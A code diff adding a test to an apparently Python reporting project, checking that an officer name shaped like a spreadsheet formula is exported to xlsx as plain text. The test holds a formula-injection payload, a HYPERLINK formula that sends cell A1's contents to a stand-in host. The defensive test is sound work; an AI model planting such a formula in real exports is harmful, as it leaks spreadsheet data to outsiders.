@@ -204,3 +204,24 @@ def test_the_console_command_exits_2_with_a_message_and_no_traceback(tmp_path: P
     assert result.returncode == 2
     assert "--month" in result.stderr
     assert "Traceback" not in result.stderr
+
+
+def test_an_officer_name_that_starts_like_a_formula_stays_text_in_the_xlsx(
+    story: Story, intake_officer: User, tmp_path: Path
+) -> None:
+    name = '=HYPERLINK("http://example.com/?leak="&A1,"Lihat")'
+    intake_officer.full_name = name
+    intake_officer.save()
+    out = tmp_path / "report.xlsx"
+
+    write_xlsx(build_document(periods.year(YEAR), publication=False), out)
+
+    cells = [
+        cell
+        for sheet in load_workbook(out).worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value == name
+    ]
+    assert cells, "the officer is in the workload table"
+    assert {cell.data_type for cell in cells} == {"s"}  # text, not a formula
